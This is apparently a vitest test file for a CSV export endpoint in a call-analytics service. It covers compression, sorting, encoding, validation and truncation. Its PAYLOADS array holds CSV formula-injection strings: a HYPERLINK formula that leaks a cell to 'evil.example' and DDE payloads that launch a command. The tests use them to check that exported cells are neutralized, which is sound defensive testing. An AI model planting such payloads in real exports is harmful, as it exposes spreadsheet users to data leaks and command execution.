import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import compress from '@fastify/compress';
import { parse } from 'csv-parse/sync';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  neutralizeFormula,
  prospectStatusLabel,
  SORT_BY_FIELDS,
  TRUNCATED_NOTICE_PREFIX,
  type CallList,
  type CallListItem,
  type Conversation,
} from '../../contract';
import { fixtureConversations } from '../db/testing/fixture-conversations';
import { COMPRESSION } from '../http/compression';
import { createIndexFixture, type IndexFixture } from '../index-api/testing/index-fixture';
import { registerCallsExport } from './calls-export-route';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '+SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

/** Calls whose caller name and summary try to run as spreadsheet formulas. */
function withPayloads(conversations: Conversation[]): Conversation[] {
  return conversations.map((conversation, index) => {
    if (index % 20 !== 0 || !conversation.conversationAnalytics) return conversation;
    const payload = PAYLOADS[(index / 20) % PAYLOADS.length]!;
    return {
      ...conversation,
      conversationAnalytics: {
        ...conversation.conversationAnalytics,
        name_of_caller: payload,
        summary: payload,
      },
    };
  });
}

let fixture: IndexFixture;
beforeAll(async () => {
  fixture = await createIndexFixture(withPayloads(fixtureConversations(160, 5)), {
    // Small chunks, so every export below walks many of them.
    export: { limits: { chunkRows: 7 } },
  });
});
afterAll(() => fixture.close());

async function exportCsv(query: string) {
  const response = await fixture.app.inject({ url: `/api/calls.csv?${query}` });
  expect(response.statusCode, response.body.slice(0, 500)).toBe(200);
  const rows = parse(response.rawPayload, { bom: true }) as string[][];
  return { response, headings: rows[0]!, rows: rows.slice(1) };
}

async function listAll(query: string): Promise<CallListItem[]> {
  const items: CallListItem[] = [];
  for (let skip = 0; ; skip += 100) {
    const response = await fixture.app.inject({
      url: `/api/calls?${query}${query ? '&' : ''}limit=100&skip=${skip}`,
    });
    expect(response.statusCode).toBe(200);
    const page = response.json<CallList>();
    items.push(...page.items);
    if (items.length >= page.total) return items;
  }
}

const text = (value: string | null | undefined) => neutralizeFormula(value ?? '');

describe('GET /api/calls.csv', () => {
  it('compresses with brotli or gzip when asked, to the same text', async () => {
    // The app server's compression, over the fixture's index.
    const app = Fastify();
    await app.register(compress, COMPRESSION);
    registerCallsExport(app, { store: fixture.store });
    try {
      const plain = await app.inject({ url: '/api/calls.csv' });
      expect(plain.headers['content-encoding']).toBeUndefined();
      expect(plain.rawPayload.length).toBeGreaterThan(10_000);
      const decoders = { gzip: gunzipSync, br: brotliDecompressSync };
      for (const [encoding, decode] of Object.entries(decoders)) {
        const response = await app.inject({
          url: '/api/calls.csv',
          headers: { 'accept-encoding': encoding },
        });
        expect(response.headers['content-encoding']).toBe(encoding);
        expect(decode(response.rawPayload).equals(plain.rawPayload), encoding).toBe(true);
      }
    } finally {
      await app.close();
    }
  });

  it('holds the same calls in the same order as /api/calls, for every filter and sort', async () => {
    const queries = [
      '',
      ...SORT_BY_FIELDS.flatMap((field) => [
        `sort_by=${field}`,
        `sort_by=${field}&sort_order=desc`,
      ]),
      'sentiment=negative&sentiment=neutral&sort_by=duration&sort_order=desc',
      'outcome=NEW&consent=missing',
      'agent=aia.1727.alpha&sort_by=name_of_caller',
      'source_type=PHONE&status=active&sort_order=desc',
      'from=2026-10-01T01:00:00Z&to=2026-10-01T04:00:00Z',
      // Many matches (each row checked) and few (trigram candidates per chunk).
      'q=appointment&sort_by=timestampStart&sort_order=desc',
      'q=naïve café',
      'search_by=name_of_caller&search_value=smi&sort_by=sentiment_of_caller',
      'skip=30&limit=5',
    ];
    for (const query of queries) {
      const list = await listAll(query.replace(/&?skip=30&limit=5/, ''));
      const { rows, headings } = await exportCsv(query);
      expect(
        rows.map((row) => row[0]),
        query,
      ).toEqual(list.map((item) => item.id));
      expect(headings).toEqual([
        'Call id',
        'Start (UTC, ISO 8601)',
        'Start (UTC)',
        'Duration (s)',
        'Caller',
        'Caller phone',
        'Caller phone source',
        'Agent',
        'Sentiment',
        'Prospect status',
        'Summary',
        'Consent',
        'Status',
        'Link',
      ]);
      rows.forEach((row, index) => {
        const item = list[index]!;
        expect(row, query).toEqual([
          item.id,
          item.timestampStart === null ? '' : new Date(`${item.timestampStart}Z`).toISOString(),
          item.timestampStart === null
            ? ''
            : new Date(`${item.timestampStart}Z`).toISOString().slice(0, 19).replace('T', ' '),
          String(item.durationSeconds ?? ''),
          text(item.callerName),
          text(item.callerPhone),
          item.callerPhone ? (item.callerPhoneOrigin === 'caller-id' ? 'caller ID' : 'given') : '',
          text(item.agentName),
          text(item.sentiment),
          text(prospectStatusLabel(item.prospectStatus)),
          text(item.summary),
          item.consentGiven === true ? 'given' : item.consentGiven === false ? 'not given' : '',
          text(item.status),
          `http://localhost:80/calls/${encodeURIComponent(item.id)}`,
        ]);
      });
    }
  });

  it('is UTF-8 with a BOM and CRLF line ends, named after the view and the date', async () => {
    const { response } = await exportCsv('sentiment=negative&consent=missing');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(response.body).toContain('\r\n');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="callscope-calls_negative-consent-missing_\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers['x-export-truncated']).toBe('false');
    expect(Number(response.headers['x-total-count'])).toBeGreaterThan(0);
  });

  it('writes times in the viewer zone beside the ISO ones, and only the columns asked for', async () => {
    const { headings, rows } = await exportCsv('tz=Europe/Paris&columns=start,summary');
    expect(headings).toEqual([
      'Call id',
      'Start (UTC, ISO 8601)',
      'Start (Europe/Paris)',
      'Summary',
      'Link',
    ]);
    const dated = rows.filter((row) => row[1] !== '');
    expect(dated.length).toBeGreaterThan(0);
    for (const row of dated) {
      // The fixture's calls fall on 1 October 2026, in Paris's summer time (UTC+2).
      const shifted = new Date(Date.parse(row[1]!) + 2 * 3_600_000).toISOString();
      expect(row[2]).toBe(shifted.slice(0, 19).replace('T', ' '));
    }
  });

  it('neutralizes cells that would run as formulas in a spreadsheet', async () => {
    const { rows } = await exportCsv('');
    const [callerAt, summaryAt] = [4, 10];
    const attacked = rows.filter((row) => row[callerAt]!.startsWith("'"));
    expect(attacked.length).toBeGreaterThanOrEqual(PAYLOADS.length);
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    for (const payload of PAYLOADS) {
      const row = attacked.find((candidate) => candidate[callerAt] === `'${payload}`);
      expect(row, JSON.stringify(payload)).toBeDefined();
      expect(row![summaryAt]).toBe(`'${payload}`);
    }
  });

  it('refuses garbage with a 422 in the contract shape, naming each parameter', async () => {
    const cases: [string, string[]][] = [
      ['sentiment=furious', ['sentiment']],
      ['sort_by=salary', ['sort_by']],
      ['tz=Mars/Olympus', ['tz']],
      ['tz=UTC&tz=UTC', ['tz']],
      ['columns=start,password', ['columns']],
      ['columns=', ['columns']],
      ['q=ab&tz=%00', ['q', 'tz']],
      ['from=yesterday&limit=0', ['limit', 'from']],
      [`tz=${'A'.repeat(100_000)}`, ['tz']],
    ];
    for (const [query, names] of cases) {
      const response = await fixture.app.inject({ url: `/api/calls.csv?${query}` });
      expect(response.statusCode, query).toBe(422);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      const body = response.json<{ detail: { loc: string[]; msg: string }[] }>();
      expect(body.detail.map((issue) => issue.loc[1]).sort(), query).toEqual([...names].sort());
      expect(response.body.length).toBeLessThan(3_000);
    }
  });
});

describe('the export limit', () => {
  it('stops at the limit and says so in a header and in its last row', async () => {
    const limited = await createIndexFixture(fixtureConversations(40, 2), {
      export: { limits: { maxRows: 15, chunkRows: 4 } },
    });
    try {
      const response = await limited.app.inject({ url: '/api/calls.csv?sort_by=duration' });
      expect(response.headers['x-export-truncated']).toBe('true');
      expect(response.headers['x-export-limit']).toBe('15');
      expect(response.headers['x-total-count']).toBe('40');
      const rows = (parse(response.rawPayload, { bom: true }) as string[][]).slice(1);
      expect(rows).toHaveLength(16);
      const list = await limited.store.list({
        sort_by: 'duration',
        sort_order: 'asc',
        skip: 0,
        limit: 15,
      });
      expect(rows.slice(0, 15).map((row) => row[0])).toEqual(list.items.map((item) => item.id));
      expect(rows[15]![0]).toMatch(
        new RegExp(`^${TRUNCATED_NOTICE_PREFIX}: these are the first 15 of 40 matching calls`),
      );
      expect(rows[15]!.slice(1).every((cell) => cell === '')).toBe(true);

      // Exactly as many calls as the limit: nothing is cut, so nothing says it was.
      const exact = await limited.app.inject({
        url: '/api/calls.csv?from=2026-10-01T00:00:00Z&to=2026-10-01T02:00:00Z',
      });
      const matching = Number(exact.headers['x-total-count']);
      const rowsExact = (parse(exact.rawPayload, { bom: true }) as string[][]).slice(1);
      expect(rowsExact).toHaveLength(Math.min(matching, 15) + (matching > 15 ? 1 : 0));
    } finally {
      await limited.close();
    }
  });

  it('ends exactly at a limit the matches fill, without a notice', async () => {
    const exact = await createIndexFixture(fixtureConversations(12, 3), {
      export: { limits: { maxRows: 12, chunkRows: 4 } },
    });
    try {
      const response = await exact.app.inject({ url: '/api/calls.csv' });
      expect(response.headers['x-export-truncated']).toBe('false');
      const rows = (parse(response.rawPayload, { bom: true }) as string[][]).slice(1);
      expect(rows).toHaveLength(12);
      expect(rows.some((row) => row[0]!.startsWith('#'))).toBe(false);
    } finally {
      await exact.close();
    }
  });
});
